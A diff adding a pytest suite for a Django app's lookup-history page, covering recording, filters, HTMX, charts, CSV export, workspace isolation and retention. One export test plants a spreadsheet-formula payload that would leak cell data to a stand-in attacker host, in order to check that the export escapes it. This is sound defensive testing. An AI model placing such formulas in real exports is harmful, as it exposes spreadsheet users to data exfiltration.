@@ -1,0 +1,713 @@
+"""The lookup history: what is recorded, the page for leads (filters, summary, chart, HTMX),
+the CSV export, isolation between workspaces, and retention."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+from collections import Counter
+from zoneinfo import ZoneInfo
+
+import pytest
+import requests
+import responses
+from django.contrib.auth import get_user_model
+from django.core.management import call_command
+from django.utils import timezone
+from hypothesis import HealthCheck, given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
+
+from accounts.models import GoKarlaAccount
+from karla_sidebar.history import lookup_record_purge
+from karla_sidebar.launch import SIDEBAR_TOKEN_HEADER, launch_token_mint
+from karla_sidebar.models import LookupRecord
+
+HISTORY = "/settings/integrations/gokarla/history/"
+EXPORT = "/settings/integrations/gokarla/history/export.csv"
+HTMX = {"HTTP_HX_REQUEST": "true"}
+
+
+def record(workspace, *, at: dt.datetime | None = None, **fields) -> LookupRecord:
+    """A history row as the lookups service writes it; ``at`` backdates it."""
+    values = {
+        "source": "sidebar",
+        "actor_id": "a-1",
+        "actor_name": "Ada Agent",
+        "conversation": "c-1",
+        "action": "order",
+        "reference": "1001",
+        "outcome": "found",
+        "latency_ms": 120,
+        **fields,
+    }
+    row = LookupRecord.objects.create(workspace=workspace, **values)
+    if at is not None:
+        LookupRecord.objects.filter(pk=row.pk).update(created_at=at)
+        row.refresh_from_db()
+    return row
+
+
+def noon(days_ago: int) -> dt.datetime:
+    """Midday, ``days_ago`` days before today in the server's time zone."""
+    day = timezone.localdate() - dt.timedelta(days=days_ago)
+    return timezone.make_aware(dt.datetime.combine(day, dt.time(12)))
+
+
+def export_rows(client, params: dict | None = None) -> list[dict[str, str]]:
+    response = client.get(EXPORT, params or {})
+    assert response.status_code == 200
+    assert response.streaming
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="lookup-history-')
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def listed(response) -> list[str]:
+    """The references in the history table, top to bottom."""
+    return re.findall(r'<td class="mono reference">([^<]*)</td>', response.content.decode())
+
+
+@pytest.fixture
+def acme_accounts(workspace):
+    """Acme's two accounts, stored without asking GoKarla (the history only reads labels)."""
+    return [
+        GoKarlaAccount.objects.create(
+            workspace=workspace,
+            label=label,
+            url=f"https://{slug}.gokarla.io",
+            username=slug,
+            api_token="unused-token",
+            is_default=index == 0,
+        )
+        for index, (label, slug) in enumerate((("Demo Shop", "demo"), ("Demo Outlet", "outlet")))
+    ]
+
+
+# Records: one per lookup from the sidebar, each outcome with its fields
+
+
+def sidebar_headers(client, workspace) -> dict[str, str]:
+    """Launch Ada's sidebar in conversation c-42; the headers of her later requests."""
+    token = launch_token_mint(
+        workspace=workspace,
+        agent_id="a-1",
+        agent_name="Ada Agent",
+        conversation="c-42",
+        customer_email="jane@example.com",
+    )
+    page = client.get("/sidebar/", {"token": token}).content.decode()
+    session = re.search(r'name="karla-sidebar-token" content="([^"]+)"', page).group(1)
+    header = f"HTTP_{SIDEBAR_TOKEN_HEADER.upper().replace('-', '_')}"
+    return {header: session, **HTMX}
+
+
+def revoke_token(account):
+    GoKarlaAccount.objects.filter(pk=account.pk).update(api_token="karla-revoked-token")
+
+
+def without_api_access(account):
+    GoKarlaAccount.objects.filter(pk=account.pk).update(username="no-api-access")
+
+
+def nothing(account):
+    return None
+
+
+@pytest.mark.parametrize(
+    ("path", "reference", "prepare", "outcome", "status"),
+    [
+        ("order", "1001", nothing, "found", None),
+        ("order", "9999", nothing, "not_found", 200),
+        ("order", "1001", revoke_token, "credentials_rejected", 401),
+        ("order", "1001", without_api_access, "access_denied", 403),
+        ("order", "err-429", nothing, "rate_limited", 429),
+        ("order", "err-500", nothing, "unavailable", 500),
+        ("order", "err-timeout", nothing, "timeout", None),
+        ("order", "err-malformed", nothing, "unexpected_response", 200),
+        ("order", "10\n01", nothing, "invalid_input", None),
+        ("shipment", "NOPE-123", nothing, "not_found", 404),
+    ],
+)
+def test_each_sidebar_lookup_leaves_exactly_one_record(
+    client, workspace, shop_account, sandbox, settings, path, reference, prepare, outcome, status
+):
+    settings.GOKARLA_DEADLINE_SECONDS = 1
+    sandbox.reset_faults()
+    prepare(shop_account)
+    headers = sidebar_headers(client, workspace)
+    response = client.post(f"/sidebar/{path}/", {"reference": reference}, **headers)
+    assert response.status_code == 200
+    row = LookupRecord.objects.get()
+    assert (row.workspace, row.source, row.action, row.reference) == (
+        workspace,
+        "sidebar",
+        path,
+        reference,
+    )
+    assert (row.actor_id, row.actor_name, row.conversation) == ("a-1", "Ada Agent", "c-42")
+    assert (row.account_id, row.account_label) == (shop_account.pk, "Demo Shop")
+    assert row.outcome == outcome
+    assert row.cached is False
+    assert row.latency_ms >= 0
+    if outcome == "found":
+        assert row.summary == "#1001 · Fulfilled"
+    else:
+        assert (row.summary, row.upstream_status) == ("", status)
+
+
+def test_a_shipment_without_a_carrier_is_recorded_as_no_tracking_yet(
+    client, workspace, shop_account, sandbox
+):
+    found = requests.get(
+        f"{sandbox.url}/api/v1/shops/demo-shop/shipments",
+        params={"tracking_number": "00340434161094042557"},
+        auth=("demo-shop", "karla-demo-token"),
+        timeout=5,
+    ).json()
+    shipment = {**found.get("data", found), "carrier": None}
+    headers = sidebar_headers(client, workspace)
+    with responses.RequestsMock() as upstream:
+        upstream.get(
+            f"{sandbox.url}/api/v1/shops/demo-shop/shipments/{shipment['id']}", json=shipment
+        )
+        client.post("/sidebar/shipment/", {"reference": shipment["id"]}, **headers)
+    row = LookupRecord.objects.get()
+    assert (row.action, row.outcome, row.upstream_status) == ("shipment", "no_tracking_yet", 200)
+
+
+def test_a_lookup_without_any_account_is_recorded(client, workspace, sandbox_settings):
+    headers = sidebar_headers(client, workspace)
+    client.post("/sidebar/order/", {"reference": "1001"}, **headers)
+    row = LookupRecord.objects.get()
+    assert (row.outcome, row.account_id, row.account_label) == ("no_account", None, "")
+
+
+def test_a_repeated_lookup_is_recorded_again_as_cached(client, workspace, shop_account):
+    headers = sidebar_headers(client, workspace)
+    for _ in range(2):
+        client.post("/sidebar/order/", {"reference": "1001"}, **headers)
+    assert list(LookupRecord.objects.order_by("id").values_list("cached", flat=True)) == [
+        False,
+        True,
+    ]
+
+
+def test_no_record_holds_a_token_an_address_or_the_customers_email(client, workspace, shop_account):
+    headers = sidebar_headers(client, workspace)
+    for path, reference in (
+        ("order", "1001"),
+        ("order", "jane@example.com"),
+        ("shipment", "00340434161094042557"),
+    ):
+        client.post(f"/sidebar/{path}/", {"reference": reference}, **headers)
+    client.post("/sidebar/customer-orders/", {}, **headers)
+    rows = LookupRecord.objects.all()
+    assert rows.count() == 4
+    session_token = next(iter(headers.values()))
+    secrets = [
+        "karla-demo-token",
+        session_token,
+        "eyJ",  # any JWT
+        "jane",
+        "Jane",
+        "Doe",
+        "@",
+        "Torstraße",
+        "10119",
+        "Berlin",
+        "+49",
+    ]
+    for row in rows.values():
+        # The reference is what the agent typed (an e-mail search is allowed to be one).
+        fields = {name: str(value) for name, value in row.items() if name != "reference"}
+        for secret in secrets:
+            assert not any(secret in value for value in fields.values()), (secret, fields)
+
+
+# Access
+
+
+@pytest.mark.parametrize("url", [HISTORY, EXPORT])
+def test_leads_and_admins_may_read_the_history(leo_client, alice, url):
+    assert leo_client.get(url).status_code == 200
+    leo_client.force_login(alice)
+    assert leo_client.get(url).status_code == 200
+
+
+@pytest.mark.parametrize("url", [HISTORY, EXPORT])
+def test_anonymous_visitors_are_sent_to_log_in(client, db, url):
+    response = client.get(url, {"outcome": "timeout"})
+    assert response.status_code == 302
+    assert response["Location"].startswith("/login/?next=")
+
+
+def test_a_user_of_no_workspace_gets_404(client, db):
+    client.force_login(get_user_model().objects.create_user(username="nobody"))
+    assert client.get(HISTORY).status_code == 404
+    assert client.get(EXPORT).status_code == 404
+
+
+# The page
+
+
+def test_the_page_shows_who_looked_up_what_newest_first(leo_client, workspace, acme_accounts):
+    record(workspace, reference="1001", at=noon(2), conversation="c-42")
+    record(
+        workspace,
+        reference="err-timeout",
+        outcome="timeout",
+        latency_ms=1003,
+        account=acme_accounts[0],
+        account_label="Demo Shop",
+        actor_name="Bob Agent",
+        actor_id="a-2",
+    )
+    response = leo_client.get(HISTORY)
+    body = response.content.decode()
+    assert listed(response) == ["err-timeout", "1001"]
+    for text in ("Bob Agent", "a-2", "Demo Shop", "Timed out", "1,003 ms", "Found"):
+        assert text in body
+    assert f'href="{HISTORY}?conversation=c-42"' in body
+    assert f'href="{EXPORT}"' in body
+
+
+def test_a_conversation_link_lists_all_lookups_of_that_conversation(leo_client, workspace):
+    record(workspace, reference="1001", conversation="c-42")
+    record(workspace, reference="1002", conversation="c-42")
+    record(workspace, reference="1003", conversation="c-7")
+    response = leo_client.get(HISTORY, {"conversation": "c-42"})
+    assert sorted(listed(response)) == ["1001", "1002"]
+
+
+def test_pages_keep_the_filters_in_their_links(leo_client, workspace):
+    for number in range(55):
+        record(workspace, reference=f"R{number}", outcome="not_found")
+    record(workspace, reference="FOUND")
+    response = leo_client.get(HISTORY, {"outcome": "not_found", "agent": ""})
+    body = response.content.decode()
+    assert len(listed(response)) == 50
+    assert f'href="{HISTORY}?outcome=not_found&amp;page=2"' in body
+    second = leo_client.get(HISTORY, {"outcome": "not_found", "page": "2"})
+    assert len(listed(second)) == 5 and "FOUND" not in listed(second)
+
+
+def test_the_summary_counts_outcomes_and_latency_percentiles(leo_client, workspace):
+    for latency in range(1, 101):
+        outcome = "found" if latency <= 80 else "timeout" if latency <= 90 else "not_found"
+        record(workspace, latency_ms=latency, outcome=outcome)
+    summary = leo_client.get(HISTORY).context["summary"]
+    assert (summary.lookups, summary.found, summary.found_percent) == (100, 80, 80.0)
+    assert [(c.outcome, c.count) for c in summary.not_found_or_failed] == [
+        ("not_found", 10),
+        ("timeout", 10),
+    ]
+    assert (summary.median_ms, summary.p95_ms) == (50, 95)  # nearest rank
+
+
+def test_an_empty_history_says_so(leo_client, workspace):
+    response = leo_client.get(HISTORY)
+    body = response.content.decode()
+    assert "No lookups match these filters." in body
+    assert response.context["summary"].median_ms is None
+
+
+@pytest.mark.parametrize(
+    ("params", "message"),
+    [
+        ({"date_from": "yesterday"}, "Enter a valid date."),
+        ({"date_from": "2025-03-10", "date_to": "2025-03-01"}, "The end date is before"),
+        ({"date_to": "0001-01-01"}, "Ensure this value is greater than or equal to"),
+        ({"date_to": "9999-12-31"}, "Ensure this value is less than or equal to"),
+        ({"outcome": "exploded"}, "Select a valid choice."),
+        ({"account": "999999"}, "Select a valid choice."),
+        ({"account": "removed:Nothing"}, "Select a valid choice."),
+        ({"reference": "x" * 201}, "Ensure this value has at most 200 characters"),
+        ({"agent": "a\x00b"}, "Null characters are not allowed."),
+    ],
+)
+def test_bad_filters_show_the_error_never_a_500(leo_client, workspace, params, message):
+    record(workspace)
+    for headers in ({}, HTMX):
+        response = leo_client.get(HISTORY, params, **headers)
+        assert response.status_code == 200
+        body = response.content.decode()
+        assert "Check the filters." in body and message in body
+        assert listed(response) == []
+
+
+@hypothesis_settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    st.dictionaries(
+        st.sampled_from(
+            ["date_from", "date_to", "agent", "action", "outcome", "account", "source", "page"]
+        ),
+        st.text(max_size=30),
+    )
+)
+def test_any_query_string_answers_200(leo_client, workspace, params):
+    assert leo_client.get(HISTORY, params).status_code == 200
+
+
+def test_no_inline_styles_or_scripts_for_the_strict_csp(leo_client, workspace):
+    record(workspace)
+    body = leo_client.get(HISTORY).content.decode()
+    assert " style=" not in body and "<style" not in body
+    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", body)
+
+
+# HTMX
+
+
+def test_htmx_filtering_swaps_the_results_and_pushes_a_clean_url(leo_client, workspace):
+    record(workspace, reference="1001")
+    record(workspace, reference="err-timeout", outcome="timeout")
+    params = {"outcome": "timeout", "agent": "", "date_from": ""}
+    response = leo_client.get(HISTORY, params, **HTMX)
+    body = response.content.decode()
+    assert body.lstrip().startswith('<section id="history-results"')
+    assert "<html" not in body and "<form" not in body
+    assert listed(response) == ["err-timeout"]
+    assert response["HX-Push-Url"] == f"{HISTORY}?outcome=timeout"
+    assert f'href="{EXPORT}?outcome=timeout"' in body  # the download follows the filters
+
+    full = leo_client.get(f"{HISTORY}?outcome=timeout")  # the pushed URL, opened anew
+    assert "<html" in full.content.decode() and listed(full) == ["err-timeout"]
+    assert 'hx-push-url="true"' in full.content.decode()
+
+
+def test_htmx_pagination_pushes_the_page_and_a_history_restore_gets_the_whole_page(
+    leo_client, workspace
+):
+    for number in range(51):
+        record(workspace, reference=f"R{number}")
+    page_two = leo_client.get(HISTORY, {"page": "2"}, **HTMX)
+    assert page_two["HX-Push-Url"] == f"{HISTORY}?page=2"
+    restore = leo_client.get(HISTORY, {"page": "2"}, HTTP_HX_HISTORY_RESTORE_REQUEST="true", **HTMX)
+    assert "<html" in restore.content.decode()
+    assert "HX-Push-Url" not in restore
+
+
+def test_htmx_errors_update_the_fields_messages_out_of_band(leo_client, workspace):
+    body = leo_client.get(HISTORY, {"date_from": "soon"}, **HTMX).content.decode()
+    assert (
+        '<div id="id_date_from-error" class="field-error" hx-swap-oob="true">'
+        "Enter a valid date.</div>"
+    ) in body
+
+
+# Filters, summary, chart and export agree
+
+
+@pytest.fixture
+def varied_history(workspace, acme_accounts):
+    """40 lookups with every filterable field varied; the list of rows as written."""
+    shop, outlet = acme_accounts
+    outcomes = ["found", "found", "not_found", "timeout", "found", "unavailable", "invalid_input"]
+    accounts = [(shop, "Demo Shop"), (outlet, "Demo Outlet"), (None, "Old Shop"), (None, "")]
+    agents = [("a-1", "Ada Agent"), ("a-2", "Bob Agent"), ("a-12", "Cleo Agent")]
+    rows = []
+    for n in range(40):
+        account, label = accounts[n % 4]
+        actor_id, actor_name = agents[n % 3]
+        rows.append(
+            record(
+                workspace,
+                at=noon(n % 20 * 3),
+                reference=f"{1000 + n}",
+                outcome=outcomes[n % 7],
+                action=["order", "shipment", "customer_orders"][n % 3 if n % 5 else 0],
+                source="workflow" if n % 4 == 1 else "sidebar",
+                account=account,
+                account_label=label,
+                actor_id=actor_id,
+                actor_name=actor_name,
+                conversation=f"c-{n % 6}",
+                latency_ms=10 * n,
+            )
+        )
+    return rows
+
+
+def _day(days_ago: int) -> str:
+    return (timezone.localdate() - dt.timedelta(days=days_ago)).isoformat()
+
+
+FILTER_CASES = [
+    ({}, lambda r: True),
+    ({"outcome": "unsuccessful"}, lambda r: r.outcome != "found"),
+    ({"outcome": "timeout"}, lambda r: r.outcome == "timeout"),
+    ({"agent": "bob"}, lambda r: r.actor_name == "Bob Agent"),
+    ({"agent": "a-1"}, lambda r: r.actor_id == "a-1"),
+    (
+        {"action": "shipment", "source": "sidebar"},
+        lambda r: (r.action, r.source) == ("shipment", "sidebar"),
+    ),
+    ({"source": "workflow"}, lambda r: r.source == "workflow"),
+    ({"account": "removed:Old Shop"}, lambda r: r.account_label == "Old Shop"),
+    ({"reference": "101"}, lambda r: "101" in r.reference),
+    ({"conversation": "c-3"}, lambda r: r.conversation == "c-3"),
+    (
+        {"date_from": _day(10), "date_to": _day(3)},
+        lambda r: (
+            r.created_at.date() >= timezone.localdate() - dt.timedelta(days=10)
+            and r.created_at.date() <= timezone.localdate() - dt.timedelta(days=3)
+        ),
+    ),
+    (
+        {"outcome": "found", "date_from": _day(30), "agent": "Agent"},
+        lambda r: (
+            r.outcome == "found"
+            and r.created_at.date() >= timezone.localdate() - dt.timedelta(days=30)
+        ),
+    ),
+]
+
+
+@pytest.mark.parametrize(("params", "matches"), FILTER_CASES)
+def test_list_summary_chart_and_export_count_the_same_rows(
+    leo_client, varied_history, params, matches
+):
+    expected = [row for row in varied_history if matches(row)]
+    assert expected, "each case matches something"
+    response = leo_client.get(HISTORY, params)
+    context = response.context
+    summary = context["summary"]
+    assert context["page"].paginator.count == summary.lookups == len(expected)
+    assert sorted(listed(response)) == sorted(row.reference for row in expected)
+
+    outcomes = Counter(row.outcome for row in expected)
+    assert summary.found == outcomes["found"]
+    assert {c.outcome: c.count for c in summary.not_found_or_failed} == {
+        outcome: count for outcome, count in outcomes.items() if outcome != "found"
+    }
+    exported = export_rows(leo_client, params)
+    assert sorted(row["Reference"] for row in exported) == sorted(r.reference for r in expected)
+    assert Counter(row["Outcome"] for row in exported) == outcomes
+
+    # The chart shows the last 30 days of the same rows.
+    start = context["chart"].start
+    in_chart = [row for row in expected if timezone.localtime(row.created_at).date() >= start]
+    assert context["chart"].total == len(in_chart)
+
+
+def test_the_account_filter_lists_live_accounts_and_removed_labels(
+    leo_client, varied_history, acme_accounts
+):
+    shop = acme_accounts[0]
+    choices = dict(leo_client.get(HISTORY).context["form"].fields["account"].choices)
+    assert choices == {
+        "": "Any account",
+        str(shop.pk): "Demo Shop",
+        str(acme_accounts[1].pk): "Demo Outlet",
+        "removed:Old Shop": "Old Shop (removed)",
+    }
+    response = leo_client.get(HISTORY, {"account": shop.pk})
+    assert sorted(listed(response)) == sorted(
+        row.reference for row in varied_history if row.account_id == shop.pk
+    )
+
+
+def test_the_export_has_every_column_newest_first(leo_client, workspace, acme_accounts):
+    record(workspace, reference="OLDER", at=noon(1))
+    record(
+        workspace,
+        reference="1006",
+        source="workflow",
+        actor_id="key-1",
+        actor_name="Zapier key",
+        conversation="",
+        action="order",
+        account=acme_accounts[0],
+        account_label="Demo Shop",
+        outcome="unavailable",
+        summary="",
+        upstream_status=503,
+        latency_ms=2301,
+        cached=False,
+    )
+    rows = export_rows(leo_client)
+    assert [row["Reference"] for row in rows] == ["1006", "OLDER"]
+    newest = rows[0]
+    assert list(newest) == [
+        "Time",
+        "Source",
+        "Agent ID",
+        "Agent name",
+        "Conversation",
+        "Action",
+        "Reference",
+        "Account",
+        "Outcome",
+        "Summary",
+        "GoKarla status",
+        "Latency ms",
+        "Cached",
+    ]
+    assert dt.datetime.fromisoformat(newest["Time"]).tzinfo is not None
+    assert {key: value for key, value in newest.items() if key != "Time"} == {
+        "Source": "workflow",
+        "Agent ID": "key-1",
+        "Agent name": "Zapier key",
+        "Conversation": "",
+        "Action": "order",
+        "Reference": "1006",
+        "Account": "Demo Shop",
+        "Outcome": "unavailable",
+        "Summary": "",
+        "GoKarla status": "503",
+        "Latency ms": "2301",
+        "Cached": "no",
+    }
+
+
+def test_the_export_neutralises_spreadsheet_formulas(leo_client, workspace):
+    record(
+        workspace,
+        reference='=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+        actor_name="+SUM(1,2)",
+        actor_id="@cmd",
+        conversation="-2+3",
+        summary="\tindented",
+        account_label="\r=1",
+    )
+    row = export_rows(leo_client)[0]
+    assert row["Reference"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+    assert row["Agent name"] == "'+SUM(1,2)"
+    assert row["Agent ID"] == "'@cmd"
+    assert row["Conversation"] == "'-2+3"
+    assert row["Summary"] == "'\tindented"
+    assert row["Account"] == "'\r=1"
+
+
+def test_an_export_with_bad_filters_is_refused_with_the_message(leo_client, workspace):
+    record(workspace)
+    response = leo_client.get(EXPORT, {"date_from": "nonsense"})
+    assert response.status_code == 400
+    assert "Enter a valid date." in response.content.decode()
+
+
+# Dates are days in the server's time zone, across daylight saving changes
+
+
+def test_dates_are_days_in_the_servers_time_zone(leo_client, workspace, settings):
+    settings.TIME_ZONE = "Europe/Berlin"
+    utc = ZoneInfo("UTC")
+    # Berlin switched to summer time on 2025-03-30 (UTC+1 → UTC+2).
+    record(workspace, reference="29th 23:30", at=dt.datetime(2025, 3, 29, 22, 30, tzinfo=utc))
+    record(workspace, reference="30th 00:30", at=dt.datetime(2025, 3, 29, 23, 30, tzinfo=utc))
+    record(workspace, reference="31st 00:30", at=dt.datetime(2025, 3, 30, 22, 30, tzinfo=utc))
+    response = leo_client.get(HISTORY, {"date_from": "2025-03-30", "date_to": "2025-03-30"})
+    assert listed(response) == ["30th 00:30"]
+    wider = leo_client.get(HISTORY, {"date_from": "2025-03-29", "date_to": "2025-03-31"})
+    per_day = {day.day.isoformat(): day.total for day in wider.context["chart"].days}
+    assert per_day == {"2025-03-29": 1, "2025-03-30": 1, "2025-03-31": 1}
+
+
+# The chart
+
+
+def test_the_chart_stacks_the_last_30_days_by_outcome(leo_client, workspace):
+    for outcome in ("found", "found", "timeout"):
+        record(workspace, outcome=outcome, at=noon(0))
+    record(workspace, outcome="not_found", at=noon(5))
+    record(workspace, outcome="found", at=noon(40))  # counted in the summary, not charted
+    response = leo_client.get(HISTORY)
+    chart, body = response.context["chart"], response.content.decode()
+    assert len(chart.days) == 30 and chart.end == timezone.localdate()
+    assert chart.total == 4 and response.context["summary"].lookups == 5
+    today = chart.days[-1]
+    assert (today.total, today.counts) == (3, (2, 0, 1))  # found, not found, timed out
+    todays = [segment.title for segment in chart.segments if segment.x > chart.right - 40]
+    assert todays == [f"{today.label} · Found: 2", f"{today.label} · Timed out: 1"]
+    for title in todays:
+        assert f"<title>{title}</title>" in body
+    assert 'class="bar outcome-timeout"' in body
+    legend = re.search(r'<ul class="chart-legend".*?</ul>', body, re.S).group(0)
+    assert re.findall(r"</span>([^<]+)</li>", legend) == ["Found", "Not found", "Timed out"]
+    assert "<summary>Show as table</summary>" in body
+
+
+@pytest.mark.parametrize(
+    ("params", "days", "end"),
+    [
+        ({"date_from": _day(4)}, 5, _day(0)),
+        ({"date_from": _day(200), "date_to": _day(100)}, 92, _day(100)),
+        ({"date_to": _day(10)}, 30, _day(10)),
+        ({"date_from": _day(-3)}, 1, _day(-3)),  # a start in the future: that one day
+    ],
+)
+def test_the_chart_follows_the_chosen_range_up_to_92_days(leo_client, workspace, params, days, end):
+    response = leo_client.get(HISTORY, params)
+    assert response.status_code == 200
+    chart = response.context["chart"]
+    assert (len(chart.days), chart.end.isoformat()) == (days, end)
+
+
+# Isolation
+
+
+def test_another_workspace_sees_none_of_acmes_history(
+    gwen_client, workspace, other_workspace, acme_accounts
+):
+    shop = acme_accounts[0]
+    record(workspace, reference="ACME-1", account=shop, account_label="Demo Shop")
+    record(workspace, reference="ACME-2", account_label="Old Acme Shop", conversation="c-acme")
+    record(other_workspace, reference="GLOBEX-1")
+
+    response = gwen_client.get(HISTORY)
+    assert listed(response) == ["GLOBEX-1"]
+    assert response.context["summary"].lookups == 1
+    assert response.context["chart"].total == 1
+    assert "Old Acme Shop" not in response.content.decode()
+    assert [row["Reference"] for row in export_rows(gwen_client)] == ["GLOBEX-1"]
+    assert listed(gwen_client.get(HISTORY, {"conversation": "c-acme"})) == []
+    assert export_rows(gwen_client, {"reference": "ACME"}) == []
+
+    for account in (shop.pk, "removed:Old Acme Shop"):
+        tampered = gwen_client.get(HISTORY, {"account": account})
+        assert tampered.status_code == 200
+        body = tampered.content.decode()
+        assert "Select a valid choice." in body and "ACME" not in body
+        assert "summary" not in tampered.context
+        refused = gwen_client.get(EXPORT, {"account": account})
+        assert refused.status_code == 400 and not refused.streaming
+
+
+# Retention
+
+
+def test_purge_deletes_exactly_what_is_older_than_the_retention(
+    workspace, other_workspace, settings
+):
+    settings.HISTORY_RETENTION_DAYS = 30
+    now = timezone.now()
+    record(workspace, reference="OLD", at=now - dt.timedelta(days=31))
+    record(other_workspace, reference="OLD-GLOBEX", at=now - dt.timedelta(days=31))
+    record(workspace, reference="KEPT", at=now - dt.timedelta(days=29))
+    record(workspace, reference="NEW")
+
+    out = io.StringIO()
+    call_command("purge_history", "--dry-run", stdout=out)
+    assert out.getvalue().startswith("Would delete 2 lookup records older than 30 days")
+    assert LookupRecord.objects.count() == 4
+
+    out = io.StringIO()
+    call_command("purge_history", stdout=out)
+    assert out.getvalue().startswith("Deleted 2 lookup records older than 30 days")
+    assert sorted(LookupRecord.objects.values_list("reference", flat=True)) == ["KEPT", "NEW"]
+
+
+def test_purge_deletes_in_batches(workspace):
+    for number in range(5):
+        record(workspace, reference=f"R{number}", at=timezone.now() - dt.timedelta(days=400))
+    record(workspace, reference="NEW")
+    cutoff = timezone.now() - dt.timedelta(days=90)
+    assert lookup_record_purge(older_than=cutoff, dry_run=True) == 5
+    assert lookup_record_purge(older_than=cutoff, batch_size=2) == 5
+    assert list(LookupRecord.objects.values_list("reference", flat=True)) == ["NEW"]
